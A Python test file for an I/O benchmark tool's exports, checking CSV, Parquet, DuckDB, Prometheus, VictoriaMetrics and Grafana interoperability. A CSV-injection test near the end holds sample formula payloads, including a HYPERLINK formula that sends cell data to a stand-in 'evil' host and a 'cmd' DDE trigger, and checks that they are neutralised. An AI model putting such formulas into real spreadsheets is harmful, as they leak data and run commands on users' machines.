"""Exports are read back by other programs: polars, DuckDB, Prometheus and VictoriaMetrics."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from pathlib import Path

import polars as pl
import pytest
import yaml

from iobands.model import OK
from iobands.snapshot import Severity, Snapshot
from iobands.source.perflog import read_perflogs
from iobands.source.samples import samples_csv, samples_json, write_parquet
from iobands.views.openmetrics import history_metrics, state_metrics
from iobands.views.writing import Table
from iobands.views.writing import written as document_of
from tests.conftest import Command
from tests.factory import NOW, daily, line, write_perflog
from tests.fault_table import Observed
from tests.views.sites import look

ROOT = Path(__file__).resolve().parents[2]
GRAFANA = ROOT / "docs" / "recipes" / "grafana-dashboard.json"
HOSTILE = 'a "quoted" \\ name'


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("export")
    rows = [
        *daily([1.5 + 0.01 * (n % 7) for n in range(40)]),
        *daily([3.5, 2.5], pattern="ssf", file_system=HOSTILE, stripe_count_asked=-1),
    ]
    write_perflog(root / "perflogs", rows)
    return root


@pytest.fixture(scope="module")
def site(root: Path) -> Snapshot:
    return look(root)


def program(name: str) -> str:
    """Return the path of a program, or skip; `setup/system-packages test` installs it on Debian."""
    found = shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed")
    return found


def test_tables_have_every_sample_with_its_type(root: Path, tmp_path: Path) -> None:
    samples = read_perflogs(root / "perflogs")
    rows = json.loads(samples_json(samples))
    assert len(rows) == 42
    assert rows[-1]["stripe_count"] is None
    assert datetime.fromisoformat(rows[-1]["job_completion_time"]).tzinfo is not None
    table = pl.read_csv(samples_csv(samples).encode())
    assert table["perf_value"].to_list() == [row["perf_value"] for row in rows]
    written = list(write_parquet(samples, tmp_path))
    assert [path.relative_to(tmp_path).as_posix() for path in written] == [
        "here/2026-10.parquet",
        "here/2026-11.parquet",
    ]
    back = pl.read_parquet(written)
    assert back.schema["job_completion_time"] == pl.Datetime("us", "UTC")
    assert (back.schema["perf_value"], back.schema["tasks"]) == (pl.Float64, pl.Int64)
    assert back["perf_value"].sum() == pytest.approx(sum(row["perf_value"] for row in rows))
    assert list(write_parquet(samples, tmp_path)) == []  # nothing has changed


def test_duckdb_answers_the_question_of_the_recipe(root: Path, tmp_path: Path) -> None:
    duckdb = pytest.importorskip("duckdb")
    list(write_parquet(read_perflogs(root / "perflogs"), tmp_path))
    text = (ROOT / "docs" / "howto" / "export.md").read_text(encoding="utf-8")
    (query,) = re.findall(r"```sql\n(.+?)```", text, re.S)
    found = duckdb.sql(query.replace("samples/", f"{tmp_path}/")).fetchall()
    by_series = {row[:3]: row for row in found}
    runs, median = by_series["disk", "fpp", "write_bw"][3:]
    values = [1.5 + 0.01 * (n % 7) for n in range(40)][-30:]
    assert runs == len(values)
    assert median == pytest.approx((sorted(values)[14] + sorted(values)[15]) / 2)


def test_promtool_takes_the_metrics_and_the_history(site: Snapshot, tmp_path: Path) -> None:
    promtool = program("promtool")
    state = state_metrics(site)
    done = subprocess.run(
        [promtool, "check", "metrics"], input=state, capture_output=True, text=True, check=False
    )
    assert done.returncode in {0, 3}, done.stderr  # 3: remarks on style
    assert "error" not in done.stderr
    newest = max(each.status.when for each in site.series).timestamp()
    assert f'iobands_last_session_timestamp_seconds{{system="here"}} {newest!r}\n' in state
    history = tmp_path / "history"
    history.write_text(history_metrics(site), encoding="utf-8")
    blocks = tmp_path / "blocks"
    command = [promtool, "tsdb", "create-blocks-from", "openmetrics", history, blocks]
    subprocess.run(command, capture_output=True, check=True)
    (blocks / "wal").mkdir()  # `dump` requires it
    dump = [promtool, "tsdb", "dump", blocks]
    lines = subprocess.run(dump, capture_output=True, text=True, check=True).stdout.splitlines()
    assert len(lines) == 42
    (newest_of_two,) = (line for line in lines if "quoted" in line and line.split()[-2] == "2.5")
    moment = datetime.fromtimestamp(int(newest_of_two.split()[-1]) / 1000, timezone.utc)
    assert (NOW - moment).total_seconds() == 6 * 3600


def test_series_of_nearly_the_same_volume_have_metrics_of_their_own(tmp_path: Path) -> None:
    """Metrics with equal labels are an error for a parser of OpenMetrics."""
    rows = [*daily([1.5] * 3, gib=0.1), *daily([2.5] * 3, gib=0.10000000000000002)]
    write_perflog(tmp_path / "perflogs", rows)
    lines = state_metrics(look(tmp_path)).splitlines()
    named = [line.rpartition(" ")[0] for line in lines if not line.startswith("#")]
    assert len(named) == len({*named})


def test_the_textfile_collector_serves_the_metrics(site: Snapshot, tmp_path: Path) -> None:
    exporter = program("prometheus-node-exporter")
    (tmp_path / "iobands.prom").write_text(state_metrics(site), encoding="utf-8")
    options = ["--collector.disable-defaults", "--collector.textfile"]
    options += [f"--collector.textfile.directory={tmp_path}", "--web.listen-address={}"]
    with serving(exporter, *options) as address:
        text = _served(f"http://{address}/metrics")
    assert "node_textfile_scrape_error 0" in text
    assert f"iobands_exit_status {site.exit_status}\n" in text
    assert text.count("iobands_series_state{") == len(site.series)


def test_victoriametrics_takes_the_history(site: Snapshot, tmp_path: Path) -> None:
    options = [f"-storageDataPath={tmp_path}", "-retentionPeriod=100y", "-httpListenAddr={}"]
    with serving(program("victoria-metrics"), *options) as address:
        _served(f"http://{address}/api/v1/import/prometheus", history_metrics(site).encode())
        _served(f"http://{address}/internal/force_flush")
        text = _served(f"http://{address}/api/v1/export", b"match[]=iobands_sample")
    found = [json.loads(each) for each in text.splitlines()]
    assert sum(len(each["values"]) for each in found) == 42
    newest = max(each["timestamps"][-1] for each in found)
    assert NOW - datetime.fromtimestamp(newest / 1000, timezone.utc) == timedelta(hours=6)


@contextmanager
def serving(*command: str) -> Iterator[str]:
    """Run a server, with `{}` in its options replaced by a free address; yield the address."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{free.getsockname()[1]}"
    words = [each.format(address) for each in command]
    with subprocess.Popen(words, stderr=subprocess.DEVNULL) as process:
        try:
            yield address
        finally:
            process.terminate()


def _served(url: str, sent: bytes | None = None) -> str:
    """Return the text at a URL, once the server answers."""
    end = time.monotonic() + 120
    while True:
        try:
            with urllib.request.urlopen(url, sent, timeout=60) as answer:
                return str(answer.read().decode())
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.1)


def test_the_grafana_dashboard_asks_for_metrics_that_there_are(
    site: Snapshot, tmp_path: Path
) -> None:
    dashboard = json.loads(GRAFANA.read_text(encoding="utf-8"))
    queries = [each["expr"] for panel in dashboard["panels"] for each in panel["targets"]]
    assert queries
    state = state_metrics(site)
    for name in re.findall(r"iobands_\w+", " ".join(queries)):
        assert f"# TYPE {name} gauge\n" in state
    check_queries(queries, tmp_path)


def test_the_grafana_alerts_ask_for_metrics_that_there_are(site: Snapshot, tmp_path: Path) -> None:
    said = yaml.safe_load(GRAFANA.with_name("grafana-alerts.yaml").read_text(encoding="utf-8"))
    rules = [rule for group in said["groups"] for rule in group["rules"]]
    queries = [each["model"]["expr"] for rule in rules for each in rule["data"]]
    dashboard = json.loads(GRAFANA.read_text(encoding="utf-8"))
    queries += [each["expr"] for each in dashboard["annotations"]["list"]]
    assert len({rule["uid"] for rule in rules}) == len(rules) == 3
    assert all(rule["condition"] == rule["data"][0]["refId"] for rule in rules)
    state = state_metrics(site)
    for name in re.findall(r"iobands_\w+", " ".join(queries)):
        assert f"# TYPE {name} gauge\n" in state
    asked = set("|".join(re.findall(r'severity=~"(.*?)"', " ".join(queries))).split("|"))
    assert asked == {each.value for each in Severity if each.exit_status != OK}
    check_queries(queries, tmp_path)


def test_a_session_of_an_hour_ago_is_no_alert_and_an_older_one_is(tmp_path: Path) -> None:
    """A rule that alerts on missing data needs data even if all is well."""
    said = yaml.safe_load(GRAFANA.with_name("grafana-alerts.yaml").read_text(encoding="utf-8"))
    (rule,) = (
        each
        for group in said["groups"]
        for each in group["rules"]
        if each["noDataState"] == "Alerting"
    )
    (query,) = (each["model"]["expr"] for each in rule["data"])
    asked = [
        {"expr": query, "eval_time": f"{hours}h", "exp_samples": [{"labels": "{}", "value": value}]}
        for hours, value in ((1, 0), (27, 1))
    ]
    series = [{"series": "iobands_last_session_timestamp_seconds", "values": "0x1700"}]
    tests = [{"interval": "1m", "input_series": series, "promql_expr_test": asked}]
    (tmp_path / "tests.yml").write_text(yaml.safe_dump({"tests": tests}))
    command = [program("promtool"), "test", "rules", tmp_path / "tests.yml"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def check_queries(queries: list[str], root: Path) -> None:
    """Check queries with promtool."""
    rules = [
        {"record": f"panel:{number}", "expr": query.replace("$file_system", ".*")}
        for number, query in enumerate(queries)
    ]
    path = root / "rules.yml"
    path.write_text(yaml.safe_dump({"groups": [{"name": "panels", "rules": rules}]}))
    command = [program("promtool"), "check", "rules", path]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_the_command_replaces_a_file_or_says_why_not(iobands, root: Path, tmp_path: Path) -> None:
    perflogs = f"--perflogs={root / 'perflogs'}"
    done = iobands("export", "--format", "openmetrics", "--output", "x.prom", perflogs)
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    assert (tmp_path / "x.prom").read_text().endswith("# EOF\n")
    for wrong in (
        ("--format", "parquet", perflogs),
        ("--format", "csv", "--history", perflogs),
        ("--format", "csv", "--output", "none/x", perflogs),
        ("--format", "csv", "--perflogs", "none"),
    ):
        done = iobands("export", *wrong)
        assert (done.returncode, done.stdout) == (3, ""), wrong
        assert done.stderr.startswith("IOBANDS UNKNOWN: ")
    assert done.stderr.startswith("IOBANDS UNKNOWN: none: ")  # not the output


def test_node_exporter_can_read_the_metrics_whatever_the_umask(
    iobands: Command, root: Path, tmp_path: Path
) -> None:
    before = os.umask(0o077)
    try:
        for name, options in {"a.prom": [], "history.om": ["--history"]}.items():
            arguments = ["--format", "openmetrics", "--output", str(tmp_path / name), *options]
            assert iobands("export", *arguments, cwd=root).returncode == 0
    finally:
        os.umask(before)
    modes = [stat.S_IMODE((tmp_path / each).stat().st_mode) for each in ("a.prom", "history.om")]
    assert modes == [0o644, 0o600]


def test_a_pipe_is_written_to_and_a_link_is_replaced(iobands, root: Path) -> None:
    pipe, link, theirs = root / "pipe", root / "link", root / "theirs"
    os.mkfifo(pipe)
    link.symlink_to(theirs)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    perflogs = f"--perflogs={root / 'perflogs'}"
    for output in (pipe, link):
        done = iobands("export", "--format", "csv", "--output", str(output), perflogs)
        assert (done.returncode, done.stderr) == (0, "")
    text = os.read(reader, 64)
    os.close(reader)
    assert text == link.read_bytes()[:64] != b""
    assert pipe.is_fifo()
    assert not theirs.exists()


LINK = '=HYPERLINK("http://evil?"&A1,"x")'


@pytest.mark.fault("perflogs", "a name that a spreadsheet would run", "in CSV a ' is before it")
@pytest.mark.parametrize("text", [LINK, "+1+cmd!A0", "-1+1", "@SUM(A1)"])
def test_no_text_is_a_formula_in_a_spreadsheet(
    tmp_path: Path, text: str, iobands: Command, observed: Observed
) -> None:
    write_perflog(tmp_path, [line(stripe_count_asked="-1"), line(pattern=text)])
    table = pl.read_csv(samples_csv(read_perflogs(tmp_path)).encode())
    assert table["pattern"].to_list()[1].lstrip("'").strip() == text.strip()
    strings = table.select(pl.col(pl.String)).rows()
    assert not any(cell and cell[0] in "=+-@\t\r" for row in strings for cell in row)
    assert table["stripe_count_asked"].to_list()[0] == -1
    page = document_of([Table(("name", "rate"), ((text, "-1.5"),))], "csv")
    ((name, rate),) = list(csv.reader(page.splitlines()))[1:]
    assert (name, rate) == (f"'{text}", "-1.5")
    write_perflog(tmp_path / "perflogs", [line(pattern=text)])
    done = iobands("export", "--format", "csv")
    header, cells = csv.reader(done.stdout.splitlines())
    assert cells[header.index("pattern")] == f"'{text}"
    message = f"pattern: {cells[header.index('pattern')]}"
    observed(**{**done.cells(), "message": message}, next_run=done.returncode == 0)


def test_a_perflog_that_is_left_out_is_named(tmp_path: Path, iobands: Command) -> None:
    path = write_perflog(tmp_path / "perflogs", daily([1.5]))
    whole = iobands("export", "--format", "csv")
    (path.parent / f"{path.name}.1.gz").write_bytes(b"no archive")
    done = iobands("export", "--format", "csv")
    assert (done.returncode, done.stdout) == (0, whole.stdout)
    assert done.stderr.startswith("iobands: ")
    assert f"{path.name}.1.gz: cannot be read: " in done.stderr
    assert whole.stderr == ""
